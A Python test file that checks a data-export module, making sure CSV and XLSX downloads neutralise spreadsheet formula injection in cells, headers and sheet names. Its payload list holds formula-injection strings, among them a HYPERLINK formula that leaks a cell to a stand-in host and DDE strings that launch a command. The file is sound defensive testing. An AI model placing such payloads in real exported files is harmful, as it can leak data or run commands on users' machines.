"""Safe export: no cell of a CSV or XLSX download can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import math

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.privacy import (
    neutralise_formula,
    safe_csv_bytes,
    safe_xlsx_bytes,
    sanitise_sheet_name,
)
from tests.property_budget import examples

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals
    "\uff0bcmd",
    "-",
    "+",
    "=",
    "-1\n",  # a number and a line break is not a plain number (a regex `$` would let it through)
    "+1\n=2+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_get_an_apostrophe(payload: str) -> None:
    assert neutralise_formula(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["hello", "", "Ward 3", "'=already quoted", "-5", "+5", "-5.25", "-1,000", "1e5", "50%"],
)
def test_safe_strings_untouched(value: str) -> None:
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("value", [5, -3, 2.5, -0.1, None, True, np.int64(-4), float("nan")])
def test_non_strings_untouched(value: object) -> None:
    out = neutralise_formula(value)
    if isinstance(value, float) and math.isnan(value):
        assert math.isnan(out)  # type: ignore[arg-type]
    else:
        assert out is value


def test_neutralise_is_idempotent() -> None:
    for p in PAYLOADS:
        once = neutralise_formula(p)
        assert neutralise_formula(once) == once


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "=cmd|' /C calc'!A0": ["=1+1", "ok", "-5", None, "@x"],
            "n": [1, -2, 3, 4, 5],
            "rate": [0.5, np.nan, -1.5, 2.0, 3.0],
            "when": pd.to_datetime(["2024-01-01", None, "2024-03-01", "2024-04-01", "2024-05-01"]),
            "text": pd.Series(
                ["a\x01b", "caf\u00e9", "+44 7700", "line\nbreak", pd.NA], dtype="string"
            ),
        }
    )


def test_csv_has_bom_and_neutralised_cells_and_headers() -> None:
    df = _frame()
    before = df.copy()
    data = safe_csv_bytes(df)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "'=cmd|' /C calc'!A0"
    assert rows[1][0] == "'=1+1" and rows[3][0] == "-5" and rows[5][0] == "'@x"
    assert rows[2][1] == "-2"  # numbers untouched
    assert rows[3][4] == "'+44 7700" and rows[2][4] == "caf\u00e9"
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r\uff1d" or cell.startswith("'")
    pd.testing.assert_frame_equal(df, before)  # input unchanged


def test_csv_with_index() -> None:
    df = pd.DataFrame({"n": [1]}, index=pd.Index(["=evil"], name="group"))
    text = safe_csv_bytes(df, index=True).decode("utf-8-sig")
    assert text.splitlines()[1].startswith("'=evil")


def test_xlsx_has_no_formula_cells_and_text_is_string_typed() -> None:
    data = safe_xlsx_bytes(_frame())
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    assert ws.title == "Data"
    values = []
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(("=", "+", "@"))
            values.append(cell.value)
    assert ws["A1"].value == "'=cmd|' /C calc'!A0"
    assert ws["A2"].value == "'=1+1" and ws["A2"].quotePrefix
    assert ws["B3"].value == -2 and ws["C4"].value == -1.5
    assert ws["C3"].value is None  # NaN -> empty
    assert ws["E2"].value == "a\ufffdb"  # control characters XML cannot hold are replaced


def test_xlsx_several_sheets_with_hostile_names() -> None:
    frames = {
        "Themes: [all]/*?\\": pd.DataFrame({"a": [1]}),
        "x" * 40: pd.DataFrame({"a": ["=2"]}),
        "history": pd.DataFrame({"a": [3]}),
        "X" * 40: pd.DataFrame({"a": [4]}),
        "": pd.DataFrame(),
    }
    wb = openpyxl.load_workbook(io.BytesIO(safe_xlsx_bytes(frames)))
    names = wb.sheetnames
    assert len(names) == 5 and len({n.lower() for n in names}) == 5
    for n in names:
        assert len(n) <= 31 and not set(n) & set("[]:*?/\\")
    assert names[0] == "Themes all"
    assert wb[names[1]]["A2"].value == "'=2"


def test_xlsx_rejects_non_frames() -> None:
    with pytest.raises(TypeError, match="DataFrame"):
        safe_xlsx_bytes({"a": [1, 2]})  # type: ignore[dict-item]


def test_xlsx_timezone_and_odd_types() -> None:
    df = pd.DataFrame(
        {
            "ts": pd.to_datetime(["2024-01-01T10:00"]).tz_localize("Europe/London"),
            "td": [pd.Timedelta(days=2)],
            "obj": [{"k": "=v"}],
            "b": [True],
        }
    )
    wb = openpyxl.load_workbook(io.BytesIO(safe_xlsx_bytes(df)))
    ws = wb.active
    assert ws["A2"].value.year == 2024 and ws["B2"].value.startswith("2 days")
    assert ws["D2"].value is True


def test_sanitise_sheet_name() -> None:
    used: set[str] = set()
    assert sanitise_sheet_name("a/b", used) == "a b"
    assert sanitise_sheet_name("A/B", used) == "A B (2)"
    assert sanitise_sheet_name("   ", used) == "Sheet"
    assert sanitise_sheet_name("'quoted'") == "quoted"
    assert len(sanitise_sheet_name("y" * 100)) == 31


_hostile = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r\n\uff1d\uff0b abc123.,'\"|!()\x00\x07")), max_size=20
)


@settings(max_examples=examples(120), deadline=None)  # each example writes and re-reads a workbook
@given(st.lists(_hostile, min_size=1, max_size=8), _hostile)
def test_property_xlsx_round_trip_has_no_formulas(cells: list[str], header: str) -> None:
    df = pd.DataFrame({header or "h": cells, "n": range(len(cells))})
    wb = openpyxl.load_workbook(io.BytesIO(safe_xlsx_bytes(df)))
    for row in wb.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


@settings(max_examples=examples(300), deadline=None)
@given(_hostile)
def test_property_csv_cells_never_start_a_formula(value: str) -> None:
    out = neutralise_formula(value)
    assert isinstance(out, str)
    stripped = out.lstrip(" \u00a0\u3000")
    if stripped and stripped[0] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
        # only a plain number may start with + or -
        assert stripped[0] in "+-"
        assert stripped[1:].strip(" ").replace(".", "").replace(",", "").isdigit()
